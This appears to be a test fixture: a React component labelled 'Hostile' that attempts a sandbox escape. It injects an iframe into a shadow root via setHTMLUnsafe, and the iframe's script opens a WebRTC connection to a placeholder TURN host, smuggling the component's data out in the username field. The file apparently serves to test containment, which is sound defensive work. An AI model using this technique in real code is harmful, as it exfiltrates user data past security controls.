import { useEffect } from "react";

// Escape attempt: webrtc_shadow_root — a frame inside a shadow root, written with setHTMLUnsafe
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_shadow_root-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      const host = document.body.appendChild(document.createElement("div"));
      const shadow = host.attachShadow({ mode: "open" });
      shadow.setHTMLUnsafe(`<iframe srcdoc="${`<script>const servers = ${JSON.stringify(servers)}; const pc = new RTCPeerConnection(servers); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));<\/script>`.replace(/"/g, "&quot;")}"></iframe>`);
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">webrtc_shadow_root</p>;
}
